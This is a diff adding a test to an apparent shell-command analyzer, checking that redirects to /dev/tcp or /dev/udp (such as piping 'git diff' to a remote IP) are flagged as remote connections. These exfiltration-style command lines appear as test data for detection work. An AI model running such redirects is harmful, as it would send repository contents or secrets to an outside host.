@@ -195,6 +195,15 @@ commands:
     expect(analyzer.analyze('npx rimraf dist').invocations.flatMap((item) => item.canonical)).toContain('rm --recursive --force dist');
   });
 
+  test('a redirect to /dev/tcp or /dev/udp connects to a host the line names', () => {
+    for (const line of ['git diff > /dev/tcp/203.0.113.7/80', 'ls >/dev/udp/h/53', 'cat < /dev/tcp/h/80', 'h=x; echo > "/dev/tcp/$h/1"']) {
+      const analysis = analyzer.analyze(line);
+      expect(analysis.opaque.map((item) => item.kind), line).toContain('named-remote');
+      expect(analysis.files, line).toEqual([]);
+    }
+    expect(analyzer.analyze('git diff > /dev/null').opaque).toEqual([]);
+  });
+
   test('git push refspecs become the git operation', () => {
     expect(analyzer.analyze('git -C r push origin +HEAD:refs/heads/main').gitPushes).toEqual([{ operation: 'push --force', target: '+main' }]);
   });
